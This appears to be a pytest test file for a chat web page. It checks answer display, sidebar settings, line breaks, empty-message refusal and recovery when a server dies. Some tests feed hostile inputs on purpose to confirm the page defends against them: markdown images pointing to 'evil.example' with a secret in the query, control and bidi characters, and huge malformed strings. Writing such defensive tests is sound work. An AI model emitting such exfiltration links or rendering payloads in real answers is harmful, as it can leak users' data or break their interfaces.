"""Chat: how an answer is shown, and what is said where none comes."""

from __future__ import annotations

import time

import pytest

from pages.components.chat.line_breaks import with_line_breaks
from tests.app.chatting import answers, ask, live, settled
from tests.app.conftest import Open, Register, said
from tests.app.servers import FakePool
from tests.app.talks import shown
from tests.support import fakes


def test_an_answer_is_shown_with_its_figures_and_the_prompt_the_model_read(
    open_page: Open, register: Register, engine: fakes.FakeEngine
) -> None:
    register()
    at = open_page("chat")
    engine.pause = 0.01
    ask(at, "What is the capital of Spain?")
    assert not at.exception
    assert answers(at) == ["What is the capital of Spain?", "The capital is Madrid."]
    figures = shown(at.chat_message[1].caption[0].value)
    assert figures.startswith("phi3/1 · ")
    assert "tokens/s" in figures
    assert "first token" in figures
    assert f"{len('<user>What is the capital of Spain?')} + 5 tokens" in figures
    at.session_state[f"turn_sent_{live(at).path[0].id}"] = True
    assert "<user>What is the capital of Spain?" in [code.value for code in at.run().code]
    assert engine.asked[-1].temperature == 0.4  # the version's own, not the app's
    assert engine.asked[-1].max_tokens == 50
    assert not at.chat_input(key="chat_input").disabled


def test_the_sidebar_reaches_the_engine(open_page: Open, register: Register, engine: fakes.FakeEngine) -> None:
    register()
    at = open_page("chat")
    at.text_area(key="chat_system").set_value("Be brief.")
    at.slider(key="chat_temperature_phi3/1").set_value(0.9)
    at.slider(key="chat_top_p_phi3/1").set_value(0.5)
    at.number_input(key="chat_max_tokens_phi3/1").set_value(3)
    at.slider(key="chat_repetition_penalty_phi3/1").set_value(1.3)
    at.number_input(key="chat_seed_phi3/1").set_value(7)
    at.session_state["chat_stop_phi3/1"] = ["END", "a, b"]
    ask(at, "Hello")
    asked = engine.asked[-1]
    assert (asked.temperature, asked.top_p, asked.max_tokens, asked.seed) == (0.9, 0.5, 3, 7)
    assert asked.repetition_penalty == pytest.approx(1.3)
    assert asked.stop == ("END", "a, b")
    assert engine.prompts[-1] == "<system>Be brief.<user>Hello"
    assert "Cut off at the longest answer" in said(at)


def test_an_empty_message_is_refused_with_a_sentence(open_page: Open, register: Register, servers: FakePool) -> None:
    register()
    at = open_page("chat").chat_input(key="chat_input").set_value("   ").run()
    assert not at.exception
    assert "The message is empty" in shown(at.error[0].value)
    assert servers.opened == []


def test_images_in_answers_are_shown_as_links(open_page: Open, register: Register, engine: fakes.FakeEngine) -> None:
    engine.words = ("Look: ", "![cat]", "(http://evil.example/?q=secret)")
    register()
    answer = answers(ask(open_page("chat"), "Hello"))[1]
    assert "![" not in answer
    assert "image: cat" in answer


def test_the_lines_of_a_poem_stay_apart_and_the_answer_is_kept_as_it_came(
    open_page: Open, register: Register, engine: fakes.FakeEngine
) -> None:
    engine.words = ("Roses are red,\n", "violets are blue.")
    register()
    at = ask(open_page("chat"), "A poem")
    assert answers(at)[1] == "Roses are red,  \nviolets are blue."
    assert live(at).path[0].answer == "Roses are red,\nviolets are blue."


@pytest.mark.parametrize(
    ("written", "shown"),
    [
        ("a\nb\n\nc\nd", "a  \nb\n\nc  \nd"),
        ("- a\n  b\n- c\nd", "- a  \n  b\n- c  \nd"),
        ("> a\n> b", "> a  \n> b"),
        ("a  \nb\\\nc", "a  \nb\\\nc"),
        ("a\n```\nx = 1\ny = 2\n```\nb", "a\n```\nx = 1\ny = 2\n```\nb"),
        ("```\nx\n\ny\nz", "```\nx\n\ny\nz"),
        ("    x\n    y", "    x\n    y"),
        ("| a | b |\n|---|---|\n| 1 | 2 |\n| 3 | 4 |", "| a | b |\n|---|---|\n| 1 | 2 |\n| 3 | 4 |"),
        ("# a\nb\n\nc\n---", "# a\nb\n\nc\n---"),
        ("", ""),
    ],
)
def test_only_the_lines_of_paragraphs_end_in_a_break(written: str, shown: str) -> None:
    assert with_line_breaks(written) == shown


def test_a_question_is_shown_as_it_was_written(open_page: Open, register: Register, engine: fakes.FakeEngine) -> None:
    register()
    written = "# Not a heading\n* two\n![x](http://evil.example/mine) <b>$x$</b> :smile:"
    at = ask(open_page("chat"), written)
    assert at.chat_message[0].text[0].value == written
    assert not at.chat_message[0].markdown


def test_control_characters_of_an_answer_do_nothing(
    open_page: Open, register: Register, engine: fakes.FakeEngine
) -> None:
    engine.words = ("a\x00b", "\x1b[31m", "\u202ecba")
    register()
    assert answers(ask(open_page("chat"), "Hello"))[1] == "a\ufffdb\ufffd[31m\ufffdcba"


@pytest.mark.parametrize(
    "hostile", ["x" * 100_000, "![" * 10_000, "![a](" * 5_000, "![a](" + "x" * 9_000, "<b>" * 9_000]
)
def test_a_hostile_answer_is_shown_at_once_and_as_it_is(
    open_page: Open, register: Register, engine: fakes.FakeEngine, hostile: str
) -> None:
    engine.words = (hostile,)
    register()
    at = ask(open_page("chat"), "Hello")
    begun = time.monotonic()
    at.run()
    assert time.monotonic() - begun < 3
    assert answers(at)[1] == hostile
    assert not at.chat_message[1].markdown


def test_a_server_that_dies_is_told_and_try_again_answers(
    open_page: Open, register: Register, servers: FakePool, engine: fakes.FakeEngine
) -> None:
    servers.die_after, engine.pause = 2, 0.02
    register()
    at = ask(open_page("chat"), "What is the capital of Spain?")
    assert not at.exception
    assert answers(at) == ["What is the capital of Spain?", "The capital"]
    assert "died in mid-answer" in shown(at.error[0].value)
    again = at.button(key="chat_again")
    assert again.label == "Try again"
    settled(again.click().run())
    assert answers(at) == ["What is the capital of Spain?", "The capital is Madrid."]
    assert not at.error
    assert at.button(key="chat_again").label == "Regenerate"


def test_a_version_whose_model_cannot_be_loaded_says_why(
    open_page: Open, register: Register, servers: FakePool
) -> None:
    class Broken(fakes.FakeEngine):
        def prepare(self, messages: list[dict[str, str]]) -> str:
            raise RuntimeError("its files are damaged")

    servers.engines = lambda ref: Broken()
    register()
    at = ask(open_page("chat"), "Hello")
    assert not at.exception
    assert "its files are damaged" in shown(at.error[0].value)
    assert not at.chat_input(key="chat_input").disabled
